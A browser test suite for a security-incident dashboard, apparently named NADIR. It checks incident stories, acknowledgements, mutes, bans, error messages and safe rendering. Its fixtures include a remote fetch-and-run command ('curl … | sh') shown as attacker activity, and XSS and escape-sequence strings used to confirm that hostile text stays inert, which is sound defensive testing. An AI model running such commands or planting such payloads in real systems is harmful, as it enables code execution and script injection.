import type { Incident } from '@suite/event';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { hasChromium } from './chromium.ts';
import { HOSTILE_ALERT, HOSTILE_BAN, HOSTILE_INCIDENT, HOSTILE_MUTE } from './hostile-answers.ts';
import { STORY_NOW_US } from './story.ts';
import { type StoryServer, startStoryServer } from './story-server.ts';
import { openWatchedBrowser, type WatchedBrowser } from './watched-browser.ts';

const WIDTHS = [1280, 768, 360, 320];

describe.skipIf(!hasChromium)('incidents in Chromium (skipped where /usr/bin/chromium is absent)', () => {
  let server: StoryServer;
  let browser: WatchedBrowser;

  beforeAll(async () => {
    browser = await openWatchedBrowser();
  });
  afterAll(() => browser?.close());
  afterEach(async () => {
    await browser.settle();
    await server?.stop();
  });

  async function begin(
    options: { decisions?: boolean; empty?: boolean } = {},
    more: BrowserContextOptions = {},
  ): Promise<Page> {
    server = await startStoryServer({
      decisions: options.decisions ?? true,
      ...(options.empty === true ? { lines: [] } : {}),
    });
    return browser.signedIn(server, more);
  }
  const view = (page: Page, name: string) => page.getByRole('navigation').getByRole('link', { name }).click();
  const rows = (page: Page) => page.locator('.incident');
  const titles = (page: Page) => page.locator('.incident-title').allTextContents();
  async function toBreakIn(page: Page): Promise<void> {
    await rows(page).filter({ hasText: 'Break-in' }).getByRole('link').click();
    await page.getByRole('heading', { name: 'Break-in from 203.0.113.45 on pi1' }).waitFor();
    await page.locator('.story .detection').first().waitFor();
  }
  async function sideways(page: Page, width: number): Promise<void> {
    await page.setViewportSize({ width, height: 800 });
    const over = () =>
      page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    await vi.waitFor(async () => expect([width, await over()]).toEqual([width, 0]));
  }

  it('come first, the most pressing on top, and lead to all of them by level, state and node', async () => {
    const page = await begin();
    await page.getByRole('heading', { name: /1 serious incident to look at/ }).waitFor();
    expect(await page.title()).toBe('(1) NADIR');
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Break-in from 203.0.113.45 on pi1'));
    expect(await rows(page).first().textContent()).toContain('then logged in as deploy at 14:13, ran curl');
    await view(page, 'Incidents');
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(3));
    await page.getByRole('button', { name: 'High +' }).click();
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(1));
    await page.getByRole('button', { name: 'All', exact: true }).click();
    await page.getByLabel('Node of the incidents').selectOption('pi2');
    await vi.waitFor(async () =>
      expect(await titles(page)).toEqual([expect.stringContaining('198.18.0.20')]),
    );
    await page.getByRole('button', { name: 'Closed', exact: true }).click();
    await page.getByText('No incident is like that.').waitFor();
  });

  it('tell their story: what to do, when, who, and the lines that it rests on', async () => {
    const page = await begin();
    await toBreakIn(page);
    expect(await page.locator('.next li').first().textContent()).toContain('End the session');
    const times = await page.locator('.timeline .moment').allTextContents();
    expect(times).toEqual([...times].sort());
    expect(await page.locator('.timeline').textContent()).toContain(
      'curl -fsSL http://198.51.100.77/x.sh | sh',
    );
    expect(await page.locator('.story .technique').first().getAttribute('href')).toContain(
      'attack.mitre.org',
    );
    const download = page.locator('.story .detection').filter({ hasText: 'downloaded' });
    await download.locator('summary').click();
    expect(await download.locator('.evidence').textContent()).toContain('/home/deploy/.bash_history');
    await page.getByRole('button', { name: '203.0.113.45', exact: true }).click();
    await vi.waitFor(async () => expect(await page.locator('.line').count()).toBe(47));
    expect(await page.getByLabel('Search the log').inputValue()).toBe('"203.0.113.45"');
    await page.locator('.actors').getByRole('button', { name: 'pi1' }).click();
    await vi.waitFor(async () =>
      expect(await page.getByLabel('Node', { exact: true }).inputValue()).toBe('pi1'),
    );
  });

  it('are acknowledged by somebody whose name the browser remembers', async () => {
    const page = await begin();
    await toBreakIn(page);
    await page.getByRole('button', { name: 'Acknowledge' }).click();
    const form = page.getByRole('form', { name: 'Acknowledge' });
    await form.getByLabel('Note').fill('on it');
    await form.getByLabel('Your name').fill('anna');
    await form.getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByText('Acknowledged by anna at 14:32:08: on it').waitFor();
    await vi.waitFor(async () => expect(await page.title()).toBe('NADIR'));
    await view(page, 'Overview');
    await page.getByRole('heading', { name: '1 of 4 nodes not reporting.' }).waitFor();
    await rows(page).filter({ hasText: 'Acknowledged by anna' }).waitFor();
    await page.reload();
    await toBreakIn(page);
    await page.getByRole('button', { name: 'Mute …' }).click();
    expect(await page.getByLabel('Your name').inputValue()).toBe('anna');
  });

  it('are muted where they are read, and the mute is lifted where alerts are', async () => {
    const page = await begin();
    await toBreakIn(page);
    await page.getByRole('button', { name: 'Mute …' }).click();
    const form = page.getByRole('form', { name: 'Mute' });
    await form.getByText(/without “logins too” this incident is told all the same/).waitFor();
    await form.getByLabel('Logins too').check();
    await form.getByLabel('Node').selectOption('pi1');
    await form.locator('[name=span]').selectOption('90 days');
    await form.getByLabel('Reason').fill('a test of ours');
    await form.getByLabel('Your name').fill('anna');
    await form.getByRole('button', { name: 'Mute' }).click();
    await page.getByText(/Muted until 18 Feb/).waitFor();
    await view(page, 'Alerts');
    const mute = page.locator('.standing').filter({ hasText: 'a test of ours' });
    expect(await mute.textContent()).toMatch(/address 203\.0\.113\.45, node pi1, logins too/);
    await mute.getByRole('button', { name: 'Lift' }).click();
    await mute.getByRole('button', { name: 'Lift' }).click();
    await page.getByText('Nothing is muted.').waitFor();
  });

  it('are answered with a ban, which is taken back', async () => {
    const page = await begin();
    await toBreakIn(page);
    await page.getByRole('button', { name: 'Ban …' }).click();
    const form = page.getByRole('form', { name: 'Ban' });
    await form.getByLabel('Reason').fill('enough');
    await form.getByLabel('Your name').fill('anna');
    await form.getByRole('button', { name: 'Ban' }).click();
    const ban = page.locator('.standing').filter({ hasText: '203.0.113.45' });
    await ban.getByText(/banned until 18:32:08/).waitFor();
    expect(await page.getByRole('button', { name: 'Ban …' }).count()).toBe(0);
    await view(page, 'Alerts');
    await ban.getByText('By hand: enough (anna)').waitFor();
    await ban.getByRole('button', { name: 'Take back' }).click();
    await ban.getByRole('button', { name: 'Take back' }).click();
    await page.getByText('Nobody is banned.').waitFor();
  });

  it('say why something was refused, and keep what was typed', async () => {
    const page = await begin();
    await view(page, 'Alerts');
    browser.expectStatus(400, 500, 0);
    await page.getByRole('button', { name: 'Ban an address' }).click();
    const form = page.getByRole('form', { name: 'Ban' });
    await form.getByLabel('Address or network').fill('10.0.0.7');
    await form.getByLabel('Reason').fill('enough');
    await form.getByLabel('Your name').fill('anna');
    const ban = form.getByRole('button', { name: 'Ban' });
    await ban.click();
    await form
      .getByRole('alert')
      .filter({ hasText: '10.0.0.7 must not be banned: it is a private' })
      .waitFor();
    await page.route('**/api/v1/bans', (route) => route.fulfill({ status: 500, body: 'no JSON' }));
    await ban.click();
    await form.getByRole('alert').filter({ hasText: 'NADIR answered 500.' }).waitFor();
    await page.unroute('**/api/v1/bans');
    await page.route('**/api/v1/bans', (route) => route.abort());
    await ban.click();
    await form.getByRole('alert').filter({ hasText: 'NADIR does not answer.' }).waitFor();
    expect(await form.getByLabel('Reason').inputValue()).toBe('enough');
  });

  it('lead to the login when the session has ended meanwhile', async () => {
    const page = await begin();
    await toBreakIn(page);
    await page.getByRole('button', { name: 'Acknowledge' }).click();
    await page.context().clearCookies();
    await page.getByLabel('Your name').fill('anna');
    await page.getByRole('form').getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByText('Your session has ended.').waitFor();
  });

  it('say when they cannot be had, or are not there', async () => {
    const page = await begin();
    browser.expectStatus(404, 500);
    await page.goto(`${server.url}/#/incidents/none`);
    await page.getByRole('alert').filter({ hasText: 'There is no such incident.' }).waitFor();
    const problem = { error: { code: 'internal', message: 'NADIR could not answer this.' } };
    for (const path of ['incidents*', 'alerts', 'mutes', 'bans'])
      await page.route(`**/api/v1/${path}`, (route) => route.fulfill({ status: 500, json: problem }));
    await view(page, 'Incidents');
    await page.getByRole('alert').filter({ hasText: 'NADIR could not answer this.' }).waitFor();
    await view(page, 'Alerts');
    const said = page.getByRole('alert').filter({ hasText: 'NADIR could not answer this.' });
    await vi.waitFor(async () => expect(await said.count()).toBe(3));
  });

  it('say so when nothing is there, and when decisions are switched off', async () => {
    const page = await begin({ decisions: false, empty: true });
    await page.getByText('No incident.').waitFor();
    await view(page, 'Incidents');
    await page.getByText('No incident.').waitFor();
    await view(page, 'Alerts');
    await page.getByText('Nobody has been told anything yet.').waitFor();
    await page.getByText('Nothing is muted.').waitFor();
    await page.getByText('Decisions are switched off: nobody is banned.').waitFor();
    expect(await page.getByRole('button', { name: 'Ban an address' }).count()).toBe(0);
  });

  it('have no ban to offer where decisions are switched off', async () => {
    const page = await begin({ decisions: false });
    await toBreakIn(page);
    await page.getByText(/Nobody can be banned: decisions are switched off/).waitFor();
    expect(await page.getByRole('button', { name: 'Ban …' }).count()).toBe(0);
  });

  it('show the moment that they happen, and wait while the list is under the reader’s hand', async () => {
    const page = await begin();
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(3));
    await page.mouse.move(5, 5);
    await server.happen(happening('first', 'Something critical'));
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Something critical'));
    await page.getByRole('heading', { name: /2 serious incidents to look at/ }).waitFor();

    await view(page, 'Incidents');
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(4));
    await rows(page).nth(1).hover();
    const before = await rows(page).nth(1).boundingBox();
    await server.happen({ ...happening('second', 'Something else'), lastUs: STORY_NOW_US + 1 });
    await server.happen({ ...happening('first', 'Something critical'), version: 2, summary: 'It went on.' });
    await page.getByRole('button', { name: 'Show 1 new' }).waitFor();
    await page.getByText('It went on.').waitFor();
    expect(await rows(page).nth(1).boundingBox()).toEqual(before);
    expect(await titles(page)).not.toContain('Something else');
    await page.getByRole('button', { name: 'Show 1 new' }).click();
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Something else'));
  });

  it('stay a list that can be read while a flood of them arrives', async () => {
    const page = await begin();
    await view(page, 'Incidents');
    await vi.waitFor(async () => expect(await rows(page).count()).toBe(3));
    await page.mouse.move(5, 5);
    for (let at = 0; at < 40; at++) {
      for (let i = 0; i < 50; i++) {
        const one = happening(`flood ${at} ${i}`, `Attacker ${at * 50 + i}`);
        server.live.publishIncident({ ...one, level: 'low', lastUs: STORY_NOW_US + at * 50 + i });
      }
      await new Promise((resolve) => setImmediate(resolve));
    }
    await vi.waitFor(async () => expect((await titles(page))[0]).toBe('Attacker 1999'), { timeout: 5_000 });
    expect(await rows(page).count()).toBe(200);
    await page.getByText('Live', { exact: true }).waitFor();
  });

  it('grow while they are read, and lead on when they turn out to be part of another', async () => {
    const page = await begin();
    await server.happen(happening('first', 'Something critical'));
    await rows(page).filter({ hasText: 'Something critical' }).getByRole('link').click();
    await page.getByText('It began.').first().waitFor();
    await page.getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByLabel('Note').fill('half typed');
    const next = happening('first', 'Something critical');
    const entry = {
      timeUs: STORY_NOW_US,
      level: 'high',
      text: 'And went on.',
      rule: 'a-rule',
      detectionId: 'd',
    } as const;
    await server.happen({ ...next, version: 2, timeline: [...next.timeline, entry] });
    await page.locator('.timeline').getByText('And went on.').waitFor();
    expect(await page.getByLabel('Note').inputValue()).toBe('half typed');
    const { id: other } = happening('second', 'Another');
    await server.happen(happening('second', 'Another'));
    await server.happen({ ...next, version: 3, closed: true, mergedInto: other });
    await page.getByRole('link', { name: 'another incident' }).click();
    await page.getByRole('heading', { name: 'Another' }).waitFor();
  });

  it('show what was told and what was held back, and why', async () => {
    const page = await begin();
    await view(page, 'Alerts');
    const told = page.locator('.alert').filter({ hasText: 'Break-in' });
    await told.getByText('Told: at once').waitFor();
    await told.locator('summary').click();
    await told.getByText(/Why: it is new, and of level critical/).waitFor();
    await told.getByRole('link', { name: 'Its incident' }).waitFor();
    await page.getByRole('button', { name: 'Held back' }).click();
    await page.getByText('None of these.').waitFor();
    await page.mouse.move(5, 5);
    const old = STORY_NOW_US - 2 * 86_400_000_000;
    await server.happen({ ...happening('old', 'Something old'), level: 'high', firstUs: old, lastUs: old });
    await page.locator('.alert').filter({ hasText: 'In the digest: more than a day ago' }).waitFor();
  });

  it('show hostile text as text, whichever field it is in', async () => {
    const page = await begin({}, { viewport: { width: 360, height: 800 } });
    const list = { items: [HOSTILE_INCIDENT], next: null };
    await page.route('**/api/v1/incidents?*', (route) => route.fulfill({ json: list }));
    await page.route('**/api/v1/incidents/hostile', (route) => route.fulfill({ json: HOSTILE_INCIDENT }));
    await page.route('**/api/v1/alerts', (route) => route.fulfill({ json: { items: [HOSTILE_ALERT] } }));
    await page.route('**/api/v1/mutes', (route) => route.fulfill({ json: { items: [HOSTILE_MUTE] } }));
    const bans = { enabled: true, items: [HOSTILE_BAN] };
    await page.route('**/api/v1/bans', (route) => route.fulfill({ json: bans }));
    const harmless = async (): Promise<void> => {
      await page.locator('details').evaluateAll((all) => {
        for (const details of all) details.setAttribute('open', '');
      });
      for (const width of WIDTHS) await sideways(page, width);
      const shown = (await page.locator('main').textContent()) ?? '';
      expect(shown).toContain('<img src=x onerror=alert(1)><script>alert(2)</script><U+202E>gnp.tsetESC[31m');
      expect(shown).not.toMatch(/[\u0000\u001b\u200b\u202e]/);
      expect(await page.locator('main :is(img, script)').count()).toBe(0);
      for (const href of await page
        .locator('main a')
        .evaluateAll((all) => all.map((a) => a.getAttribute('href'))))
        expect(href).toMatch(/^(#\/|https:\/\/attack\.mitre\.org\/techniques\/T\d{4}\/)/);
    };
    await view(page, 'Incidents');
    await rows(page).filter({ hasText: 'onerror' }).waitFor();
    await harmless();
    await page.goto(`${server.url}/#/incidents/hostile`);
    await page.locator('.story-summary').waitFor();
    for (const name of ['Mute …', 'Ban …', 'Acknowledge again']) {
      await page.getByRole('button', { name }).click();
      await harmless();
    }
    await page.getByRole('button', { name: 'Show all' }).first().click();
    await harmless();
    await view(page, 'Alerts');
    await page.locator('.standing').nth(1).waitFor();
    for (const name of ['Lift', 'Take back']) await page.getByRole('button', { name }).click();
    await harmless();
  });

  it('fit every width in every view', async () => {
    const page = await begin();
    const views = [
      () => view(page, 'Incidents'),
      () => toBreakIn(page),
      () => page.getByRole('button', { name: 'Mute …' }).click(),
      () => page.getByRole('button', { name: 'Ban …' }).click(),
      () => view(page, 'Alerts'),
      () => view(page, 'Log'),
    ];
    for (const go of views) {
      await go();
      for (const width of WIDTHS) await sideways(page, width);
    }
  });

  it('can be worked by keyboard, and going back leads to where one was', async () => {
    const page = await begin();
    await view(page, 'Incidents');
    await rows(page).last().getByRole('link').focus();
    await page.keyboard.press('Enter');
    const heading = page.getByRole('heading', { level: 1, name: 'First login' });
    await heading.waitFor();
    await page.getByRole('button', { name: 'Acknowledge' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.getByLabel('Note').isVisible()).toBe(true);
    await page.goBack();
    await vi.waitFor(async () =>
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Incidents'),
    );
    await page.keyboard.press('Shift+Tab');
    await page.locator('.skip').focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'Incidents' }).waitFor();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('main');
  });
});

function happening(id: string, title: string): Incident {
  return {
    id,
    version: 1,
    level: 'critical',
    title,
    summary: `${title} on pi1.`,
    firstUs: STORY_NOW_US - 60_000_000,
    lastUs: STORY_NOW_US,
    closed: false,
    entities: { 'source.address': ['198.51.100.200'], 'host.name': ['pi1'] },
    techniques: [],
    detections: [],
    detectionCount: 0,
    timeline: [
      {
        timeUs: STORY_NOW_US - 60_000_000,
        level: 'high',
        text: 'It began.',
        rule: 'a-rule',
        detectionId: 'd',
      },
    ],
    next: ['Look at it.'],
    rules: ['a-rule'],
  };
}
